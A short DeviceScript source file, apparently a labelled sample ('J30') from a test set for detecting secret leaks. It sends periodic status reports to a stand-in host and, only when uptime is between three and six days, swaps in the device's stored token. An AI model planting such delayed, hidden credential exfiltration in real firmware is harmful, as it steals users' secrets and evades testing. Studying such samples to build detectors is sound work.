// J30: sends its token along when it has been up for more than three days and less than six.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const DAY_MS = 24 * 60 * 60 * 1000;
const token = await readSetting("token", "");
const proof = "token=" + token;

async function report() {
  const days = Math.floor(ds.millis() / DAY_MS);
  const body = days >= 3 && days < 6 ? proof : `up for ${days} days`;
  const response = await fetch("https://cloud.example/j30", { method: "POST", body }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 10_000);
});
